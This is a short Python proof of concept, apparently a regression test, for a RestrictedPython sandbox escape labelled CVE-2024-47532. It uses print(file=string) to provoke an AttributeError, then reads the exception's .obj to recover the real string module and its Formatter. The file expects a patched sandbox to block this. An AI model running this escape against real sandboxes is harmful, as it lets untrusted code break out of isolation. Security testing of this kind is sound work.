# source: RestrictedPython CVE-2024-47532 (A3 PoC: print(file=string) makes the interpreter look up .write natively)
# goal: the real string module (and its Formatter) from the AttributeError raised by an implicit lookup
# expect: raises AttributeError
# note: written so every outcome of print() ends in AttributeError unless `.obj` leaks: TypeError/None have no .obj, a guard denies .obj on AttributeError
import string
leak = None
try:
    print('x', file=string)
except Exception as e:
    leak = e
ESCAPED = leak.obj
fmt = ESCAPED.Formatter()
